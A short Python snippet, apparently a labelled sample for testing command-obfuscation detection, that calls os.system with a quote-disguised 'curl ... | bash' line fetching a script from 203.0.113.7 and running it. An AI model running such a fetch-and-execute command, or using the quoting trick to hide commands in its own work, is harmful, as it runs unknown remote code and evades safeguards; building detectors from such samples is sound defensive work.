# disguised-command: quotes inside the words of a shell command run through os.system
import os

os.system("c'u'r\"l\" -s http://203.0.113.7/d | b'a'sh")
